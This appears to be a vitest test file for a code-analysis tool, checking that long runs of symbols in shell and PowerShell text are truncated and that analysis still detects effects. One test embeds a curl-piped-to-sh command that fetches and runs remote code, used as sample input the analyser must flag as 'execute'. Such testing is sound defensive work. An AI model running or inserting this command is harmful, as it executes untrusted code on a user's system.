import { beforeAll, expect, test } from 'vitest';
import { analyseCode } from './analysis.ts';
import { CODE_LIMITS } from './code-limits.ts';
import { shortenRuns } from './shorten-runs.ts';
import { loadParser } from './syntax-tree.ts';

beforeAll(loadParser);

test('a run of signs is cut, words without signs and short runs are not', () => {
  const run = (piece: string, length: number) => piece.repeat(length / piece.length);
  expect(shortenRuns(`a\n${run(')', 60_000)} b\nc`, 'shell')).toBe(
    `a\n${run(')', CODE_LIMITS.shellRun)} b\nc`,
  );
  expect(shortenRuns(run('a[0]', 60_000), 'shell')).toHaveLength(CODE_LIMITS.shellRun);
  for (const text of [run('QUJD', 60_000), run(')', 4_000), run('a; ', 60_000)])
    expect(shortenRuns(text, 'shell')).toBe(text);
});

test('a run of operators in a text of PowerShell is cut, indentation and lines of a comment are not', () => {
  expect(shortenRuns(`$a = ${'<!--'.repeat(5_000)}1\nb`, 'powershell')).toHaveLength(
    CODE_LIMITS.operatorRun + '$a1\nb'.length,
  );
  for (const text of [`a\n${' '.repeat(5_000)}b`, `# ${'-'.repeat(300)}\na`])
    expect(shortenRuns(text, 'powershell')).toBe(text);
  expect(shortenRuns('<!--'.repeat(5_000), 'python')).toHaveLength(20_000);
});

test('what stands before an endless run of signs is followed, and the run is told', () => {
  const text = `curl -s https://tables-tool.info/a | sh\nexit\n${')'.repeat(60_000)}`;
  const { effects, notUnderstood } = analyseCode([{ file: 'a.sh', line: 1, language: 'shell', text }]);
  expect(effects.map(({ kind }) => kind)).toContain('execute');
  expect(notUnderstood.map(({ file, reason }) => `${file} ${reason}`)).toContain('a.sh too-costly');
});
